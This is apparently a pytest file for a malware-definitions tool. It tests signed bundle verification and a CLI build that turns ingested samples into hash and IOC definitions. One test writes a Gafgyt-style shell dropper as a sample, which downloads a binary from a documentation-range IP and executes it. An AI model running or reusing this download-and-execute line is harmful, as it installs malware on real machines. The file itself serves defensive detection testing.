"""Signed definitions: built from the catalog, verified, and refused when anything is off."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from cleancenter.cli import app
from cleancenter.definitions.bundle import BundleError, read_bundle, write_bundle
from cleancenter.definitions.keys import KeyProblem, PublicKey, init_keys, load_private
from cleancenter.demo import eicar


def test_keys_are_private_and_not_overwritten(tmp_path: Path) -> None:
    public = init_keys(tmp_path)
    assert (tmp_path / "definitions.key").stat().st_mode & 0o077 == 0
    assert PublicKey.parse((tmp_path / "definitions.pub").read_text()) == public
    assert len(public.fingerprint) == 64
    with pytest.raises(KeyProblem, match="refusing"):
        init_keys(tmp_path)
    assert init_keys(tmp_path, force=True) != public
    with pytest.raises(KeyProblem):
        PublicKey.parse("ed25519:AAAA")


def _bundle(tmp_path: Path) -> tuple[Path, PublicKey]:
    public = init_keys(tmp_path / "keys")
    path = tmp_path / "b.ccdef"
    files = {"hashes.jsonl": b'{"sha256": "00"}\n',
             "rules/p/a.yar": b"rule a {condition: true}"}
    write_bundle(path, {"version": 3, "counts": {}}, files, load_private(tmp_path / "keys"))
    return path, public


def _rewrite(src: Path, dst: Path, change: dict[str, bytes | None]) -> None:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        names = {i.filename for i in zin.infolist()}
        for name in sorted(names | set(change)):
            data = change.get(name, zin.read(name) if name in names else None)
            if data is not None:
                zout.writestr(name, data)


def test_bundle_verifies_and_every_fault_is_refused(tmp_path: Path) -> None:
    path, public = _bundle(tmp_path)
    bundle = read_bundle(path, public)
    assert bundle.version == 3 and bundle.jsonl("hashes.jsonl") == [{"sha256": "00"}]
    faults = {
        "tampered file": {"hashes.jsonl": b'{"sha256": "11"}\n'},
        "extra file": {"rules/p/evil.yar": b"rule x {condition: true}"},
        "missing file": {"rules/p/a.yar": None},
        "unsigned": {"manifest.sig": None},
        "tampered manifest": {"manifest.json": b'{"format": 1, "version": 99, "files": {}}'},
    }
    messages = {}
    for label, change in faults.items():
        bad = tmp_path / f"{label}.ccdef"
        _rewrite(path, bad, change)
        with pytest.raises(BundleError) as err:
            read_bundle(bad, public)
        messages[label] = str(err.value)
    assert "content differs" in messages["tampered file"]
    assert "not in the signed manifest" in messages["extra file"]
    assert "missing from the bundle" in messages["missing file"]
    assert "unsigned" in messages["unsigned"]
    assert "signature does not match" in messages["tampered manifest"]
    other = init_keys(tmp_path / "other")
    with pytest.raises(BundleError, match="signature does not match"):
        read_bundle(path, other)
    with pytest.raises(BundleError, match="rollback"):
        read_bundle(path, public, not_older_than=4)
    (tmp_path / "junk.ccdef").write_bytes(b"not a zip")
    with pytest.raises(BundleError, match="not a readable bundle"):
        read_bundle(tmp_path / "junk.ccdef", public)


def test_build_from_the_catalog_through_the_cli(tmp_path: Path, corpus: Path) -> None:
    runner = CliRunner()
    data = tmp_path / "data"

    def cc(*args: str) -> tuple[int, str]:
        result = runner.invoke(app, ["--data-dir", str(data), *args])
        return result.exit_code, result.stdout

    code, out = cc("definitions", "build")
    assert code == 2 and "keys init" in runner.invoke(
        app, ["--data-dir", str(data), "definitions", "build"]).output
    assert cc("keys", "init", "--json")[0] == 0
    (tmp_path / "eicar.com").write_bytes(eicar())
    bot = tmp_path / "bot.sh"
    bot.write_text("#!/bin/sh\ncd /tmp; wget http://198.51.100.7/bins/x86; chmod 777 x86; "
                   "./x86\n")
    assert cc("rules", "add", str(corpus / "yara" / "reversinglabs"), "--name", "rl")[0] == 0
    assert cc("ingest", str(tmp_path / "eicar.com"), str(bot))[0] == 0
    bot_sha = json.loads(cc("samples", "search", "bot.sh", "--json")[1])["samples"][0]["sha256"]
    assert cc("samples", "mark", bot_sha, "--verdict", "malicious", "--family", "gafgyt")[0] == 0
    code, out = cc("definitions", "build", "--json")
    assert code == 0, out
    first = json.loads(out)
    assert first["version"] == 1 and first["counts"]["hashes"] == 1
    assert first["counts"]["urls"] == 1 and first["counts"]["rule_files"] > 200
    code, out = cc("definitions", "verify", first["path"], "--json")
    assert code == 0 and json.loads(out)["ok"] is True
    bundle = read_bundle(Path(first["path"]), PublicKey.parse(
        (data / "keys" / "definitions.pub").read_text()))
    assert bundle.jsonl("hashes.jsonl") == [{"sha256": bot_sha, "size": bot.stat().st_size,
                                             "family": "Gafgyt"}]
    assert bundle.json("iocs.json")["urls"] == ["http://198.51.100.7/bins/x86"]
    assert "windows_programs" in bundle.json("behaviour.json")
    second = json.loads(cc("definitions", "build", "--json")[1])
    assert second["version"] == 2
    broken = tmp_path / "broken.ccdef"
    _rewrite(Path(second["path"]), broken, {"iocs.json": b"{}"})
    code, out = cc("definitions", "verify", str(broken), "--json")
    assert code == 2 and "content differs" in json.loads(out)["error"]
